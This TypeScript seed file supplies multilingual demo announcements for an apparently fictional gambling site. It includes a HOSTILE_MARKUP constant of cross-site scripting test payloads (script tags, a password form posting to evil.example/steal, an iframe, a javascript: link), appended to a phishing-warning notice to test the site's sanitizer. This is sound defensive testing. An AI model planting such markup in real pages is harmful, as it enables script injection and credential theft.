// The demo announcements, newest first. One warns against phishing and carries the markup a careless
// copy-and-paste (or a hostile operator account) could bring in: the site's sanitizer must strip it.
import type { Texts } from './translated'

export interface AnnouncementSeed {
  slug: string
  daysAgo: number
  title: Texts
  html: Texts
  /** Image announcements get a generated banner showing this figure and open in their own pop-up. */
  bannerFigure?: string
}

/**
 * Markup a sanitizer must remove; none of it may run or render as a control. Inline event handlers
 * and styles are left out on purpose: the browser's CSP refuses them even while the sanitizer parses
 * them, and says so in the console on every visit (the unit test and an e2e test feed those).
 */
export const HOSTILE_MARKUP =
  '<script>window.__xss = "script"</script><svg><script>window.__xss = "svg"</script></svg>' +
  '<form action="https://evil.example/steal"><input name="password"><button type="submit"></button></form>' +
  '<iframe src="https://evil.example/frame"></iframe><a href="javascript:window.__xss = \'link\'"></a>'

export const announcementSeeds: AnnouncementSeed[] = [
  {
    slug: 'lucky-draw-week',
    daysAgo: 0,
    bannerFigure: '×2',
    title: ['Lucky draw week: double tickets', '행운 추첨 주간: 추첨권 2배', '幸運抽獎週：抽獎券加倍', 'Tuần lễ vòng quay may mắn: nhân đôi vé'],
    html: [
      '<p>Until Sunday every daily sign-in earns <strong>two</strong> lucky draw tickets instead of one. Prizes include points, free spins and a top prize of <strong>$1,000</strong>.</p>',
      '<p>이번 주 일요일까지 매일 출석체크 시 행운 추첨 추첨권을 1장이 아닌 <strong>2장</strong> 드립니다. 포인트, 프리스핀, 최고 <strong>$1,000</strong>의 상금이 준비되어 있습니다.</p>',
      '<p>即日起至本週日，每日簽到可獲得<strong>兩張</strong>幸運抽獎券。獎品包括點數、免費旋轉，頭獎高達 <strong>$1,000</strong>。</p>',
      '<p>Đến hết Chủ nhật, mỗi lần điểm danh hằng ngày nhận <strong>hai</strong> vé quay may mắn thay vì một. Giải thưởng gồm điểm, vòng quay miễn phí và giải cao nhất <strong>$1,000</strong>.</p>',
    ],
  },
  {
    slug: 'maintenance',
    daysAgo: 1,
    title: ['Scheduled maintenance this Thursday', '이번 주 목요일 정기 점검 안내', '本週四例行維護公告', 'Bảo trì định kỳ vào thứ Năm tuần này'],
    html: [
      '<p>The site will be unavailable on Thursday from <strong>02:00 to 04:00 (UTC+8)</strong> while we upgrade our servers.</p><ul><li>Deposits and withdrawals submitted before 01:45 are processed as usual.</li><li>Open bets are settled when the games come back.</li></ul>',
      '<p>서버 업그레이드를 위해 목요일 <strong>02:00~04:00 (한국시간 03:00~05:00)</strong> 동안 서비스를 이용하실 수 없습니다.</p><ul><li>01:45 이전에 신청하신 입금 및 출금은 정상 처리됩니다.</li><li>진행 중인 베팅은 게임 재개 후 정산됩니다.</li></ul>',
      '<p>為進行伺服器升級，週四 <strong>02:00 至 04:00（台灣時間）</strong>暫停服務。</p><ul><li>01:45 前送出的存款與提款申請將照常處理。</li><li>未結算的注單將於遊戲恢復後結算。</li></ul>',
      '<p>Hệ thống sẽ tạm ngưng vào thứ Năm từ <strong>01:00 đến 03:00 (giờ Việt Nam)</strong> để nâng cấp máy chủ.</p><ul><li>Các lệnh nạp và rút tiền gửi trước 00:45 vẫn được xử lý bình thường.</li><li>Các cược đang mở sẽ được thanh toán khi trò chơi hoạt động trở lại.</li></ul>',
    ],
  },
  {
    slug: 'faster-withdrawals',
    daysAgo: 3,
    title: ['Faster withdrawals to local banks', '국내 은행 출금 처리 속도 개선', '本地銀行提款速度提升', 'Rút tiền về ngân hàng trong nước nhanh hơn'],
    html: [
      '<p>Withdrawals to verified bank cards are now usually paid within <strong>15 minutes</strong>, around the clock. Make sure your card is verified under My account before you withdraw.</p>',
      '<p>인증된 계좌로의 출금이 이제 24시간 언제든 보통 <strong>15분 이내</strong>에 처리됩니다. 출금 전 마이페이지에서 계좌 인증 여부를 확인해 주세요.</p>',
      '<p>提款至已驗證的銀行帳戶，現在全天候通常於 <strong>15 分鐘內</strong>完成。提款前請先至會員中心確認您的銀行帳戶已通過驗證。</p>',
      '<p>Lệnh rút tiền về tài khoản ngân hàng đã xác minh giờ đây thường được thanh toán trong vòng <strong>15 phút</strong>, 24/7. Hãy kiểm tra tài khoản ngân hàng của bạn đã được xác minh trong mục Tài khoản trước khi rút tiền.</p>',
    ],
  },
  {
    slug: 'slots-tournament',
    daysAgo: 5,
    bannerFigure: '50K',
    title: ['Slots tournament: 50,000 points prize pool', '슬롯 토너먼트: 총 50,000 포인트 상금', '老虎機錦標賽：總獎金 50,000 點', 'Giải đấu nổ hũ: tổng thưởng 50.000 điểm'],
    html: [
      '<p>Spin any slot from our partner providers this month to climb the leaderboard. The top 100 players share <strong>50,000 points</strong>.</p>',
      '<p>이번 달 제휴 게임사의 슬롯을 플레이하고 리더보드 순위를 올려 보세요. 상위 100명이 <strong>50,000 포인트</strong>를 나눠 받습니다.</p>',
      '<p>本月遊玩合作廠商的任一老虎機即可累積排行榜積分，前 100 名玩家將瓜分 <strong>50,000 點</strong>。</p>',
      '<p>Quay bất kỳ trò nổ hũ nào của các nhà cung cấp đối tác trong tháng này để leo bảng xếp hạng. 100 người chơi dẫn đầu chia nhau <strong>50.000 điểm</strong>.</p>',
    ],
  },
  {
    slug: 'phishing-warning',
    daysAgo: 8,
    title: ['Beware of phishing sites', '피싱 사이트 주의 안내', '慎防釣魚網站', 'Cảnh giác với trang web giả mạo'],
    html: [
      `<p>Lucky Harbor never asks for your password by message, chat or phone. Only log in on the address you bookmarked, and report suspicious links to customer service.</p>${HOSTILE_MARKUP}`,
      `<p>Lucky Harbor는 문자, 채팅, 전화로 비밀번호를 절대 요구하지 않습니다. 즐겨찾기한 주소에서만 로그인하시고, 의심스러운 링크는 고객센터로 신고해 주세요.</p>${HOSTILE_MARKUP}`,
      `<p>Lucky Harbor 絕不會透過簡訊、聊天或電話索取您的密碼。請只在您加入書籤的網址登入，並將可疑連結回報客服中心。</p>${HOSTILE_MARKUP}`,
      `<p>Lucky Harbor không bao giờ yêu cầu mật khẩu qua tin nhắn, trò chuyện hay điện thoại. Chỉ đăng nhập tại địa chỉ bạn đã lưu và báo các liên kết đáng ngờ cho CSKH.</p>${HOSTILE_MARKUP}`,
    ],
  },
  {
    slug: 'new-providers',
    daysAgo: 12,
    title: ['New games from KA Gaming and V8 Poker', 'KA Gaming, V8 Poker 신규 게임 오픈', 'KA Gaming、V8 Poker 新遊戲上線', 'Trò chơi mới từ KA Gaming và V8 Poker'],
    html: [
      '<p>Fishing games from KA Gaming and card games from V8 Poker are now in the lobby. Find them under Fishing and Card games.</p>',
      '<p>KA Gaming의 피싱 게임과 V8 Poker의 카드 게임이 로비에 추가되었습니다. 피싱 게임과 카드 게임 메뉴에서 확인하세요.</p>',
      '<p>KA Gaming 的捕魚遊戲與 V8 Poker 的棋牌遊戲已上線，請至「捕魚」與「棋牌」分類遊玩。</p>',
      '<p>Các trò bắn cá của KA Gaming và game bài của V8 Poker đã có trong sảnh. Tìm chúng trong mục Bắn cá và Game bài.</p>',
    ],
  },
  {
    slug: 'terms-update',
    daysAgo: 20,
    title: ['Updated Terms of Service', '이용약관 개정 안내', '服務條款更新公告', 'Cập nhật Điều khoản dịch vụ'],
    html: [
      '<p>We have clarified how promotion terms apply and how withdrawals are paid. The new <a href="/terms-of-service">Terms of Service</a> apply from today.</p>',
      '<p>프로모션 약관의 적용 방식과 출금 지급 방식을 명확히 했습니다. 개정된 <a href="/terms-of-service">이용약관</a>은 오늘부터 적용됩니다.</p>',
      '<p>我們已更清楚說明優惠條款的適用方式及提款的支付方式。新版<a href="/terms-of-service">服務條款</a>自即日起生效。</p>',
      '<p>Chúng tôi đã làm rõ cách áp dụng điều kiện khuyến mãi và cách thanh toán rút tiền. <a href="/terms-of-service">Điều khoản dịch vụ</a> mới có hiệu lực từ hôm nay.</p>',
    ],
  },
]
